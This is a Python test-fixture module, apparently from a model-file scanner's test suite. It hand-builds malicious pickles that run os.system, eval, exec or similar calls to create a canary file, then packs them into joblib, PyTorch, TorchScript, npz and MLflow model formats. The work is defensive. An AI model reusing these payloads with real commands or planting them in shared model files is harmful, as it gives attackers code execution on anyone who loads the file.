"""Pickles that would run code in whoever unpickles them, by every operation that can, in every container of pickles."""

import bz2
import gzip
import io
import lzma
import pickle  # noqa: TID251 - makes what is hostile, and opens nothing
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

import numpy as np

__all__ = ["CONTAINERS", "EXTENSION", "payloads"]

EXTENSION = 0x42
"""The number under which the watched process registers ``os.system`` with copyreg."""


def payloads(canary: Path) -> Mapping[str, bytes]:
    """Name → pickle that makes the canary, by some way of calling ``os.system`` or the like."""
    words = f"touch {canary}".encode()
    line = b"'" + words + b"'\n"
    short = b"\x8c" + bytes([len(words)]) + words
    code = f"open({str(canary)!r}, 'w')".encode()
    nested = b"cos\nsystem\n(S" + line + b"tR."
    return {
        "global": nested,
        "posix": b"cposix\nsystem\n(S" + line + b"tR.",
        "inst": b"(S" + line + b"ios\nsystem\n.",
        "obj": b"(cos\nsystem\nS" + line + b"o.",
        "stack_global": b"\x80\x04\x8c\x02os\x8c\x06system\x93" + short + b"\x85R.",
        "extension": b"\x80\x02\x82" + bytes([EXTENSION]) + b"(S" + line + b"tR.",
        "extension2": b"\x80\x02\x83" + struct.pack("<H", EXTENSION) + b"(S" + line + b"tR.",
        "newobj": b"\x80\x02cplanted\nThing\n)\x81.",
        "newobj_ex": b"\x80\x04\x8c\x07planted\x8c\x05Thing\x93)}\x92.",
        "build": b"cplanted\nThing\n)\x81}S'x'\nS" + line + b"sb.",
        "eval": b"c__builtin__\neval\n(S" + repr(code.decode()).encode() + b"\ntR.",
        "builtins": b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93\x8c" + bytes([len(code)]) + code + b"\x85R.",
        "getattr": b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(S'os'\ntRS'system'\ntR(S" + line + b"tR.",
        "dotted": b"\x80\x04\x8c\x07logging\x8c\x09os.system\x93" + short + b"\x85R.",
        "runstring": b"cnumpy.testing._private.utils\nrunstring\n(S" + repr(code.decode()).encode() + b"\n}tR.",
        "nested": b"\x80\x03c_pickle\nloads\n(C" + bytes([len(nested)]) + nested + b"tR.",
        "planted": b"cplanted\nThing\n.",
        "memo": b"cos\nsystem\nq\x000h\x00(S" + line + b"tR.",
        "late": pickle.dumps({"w": np.ones(3, np.float32)}, 2)[:-1] + b"cos\nsystem\n(S" + line + b"tR0.",
    }  # fmt: skip


def _zip(folder: Path, name: str, members: Mapping[str, bytes]) -> Path:
    path = folder / name
    with zipfile.ZipFile(path, "w") as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return path


def _plain(suffix: str, pack: Callable[[bytes], bytes] = bytes) -> Callable[[Path, bytes], Path]:
    def kept(folder: Path, payload: bytes) -> Path:
        path = folder / f"model{suffix}"
        path.write_bytes(pack(payload))
        return path

    return kept


def _torch_zip(folder: Path, payload: bytes) -> Path:
    return _zip(folder, "model.pt", {"m/data.pkl": payload, "m/version": b"3\n", "m/byteorder": b"little"})


def _torch_legacy(folder: Path, payload: bytes) -> Path:
    path = folder / "model.pth"
    head = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}]
    path.write_bytes(b"".join(pickle.dumps(one, 2) for one in head) + payload + pickle.dumps([], 2))
    return path


def _torchscript(folder: Path, payload: bytes) -> Path:
    code = b"class M(Module):\n  __parameters__ = []\n  def forward(self, x: Tensor) -> Tensor:\n    return x\n"
    members = {"m/data.pkl": payload, "m/code/__torch__.py": code, "m/constants.pkl": payload, "m/version": b"3\n"}
    return _zip(folder, "model.torchscript", members)


def _npz(folder: Path, payload: bytes) -> Path:
    held = io.BytesIO()
    np.lib.format.write_array_header_1_0(held, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return _zip(folder, "model.npz", {"w.npy": held.getvalue() + payload})


def _mlflow(folder: Path, payload: bytes) -> Path:
    path = folder / "model"
    path.mkdir()
    (path / "model.pkl").write_bytes(payload)
    flavors = "flavors:\n  sklearn: {pickled_model: model.pkl, serialization_format: cloudpickle}\n"
    more = "  python_function: {loader_module: planted, model_path: model.pkl}\n"
    (path / "MLmodel").write_text(flavors + more)
    return path


CONTAINERS: Mapping[str, Callable[[Path, bytes], Path]] = {
    "pkl": _plain(".pkl"),
    "joblib": _plain(".joblib"),
    "joblib.zlib": _plain(".joblib", zlib.compress),
    "joblib.gz": _plain(".joblib", gzip.compress),
    "joblib.bz2": _plain(".joblib", bz2.compress),
    "joblib.xz": _plain(".joblib", lzma.compress),
    "pt": _torch_zip,
    "pth": _torch_legacy,
    "torchscript": _torchscript,
    "npz": _npz,
    "mlflow": _mlflow,
}
"""Container → function of a folder and a pickle that gives the file."""
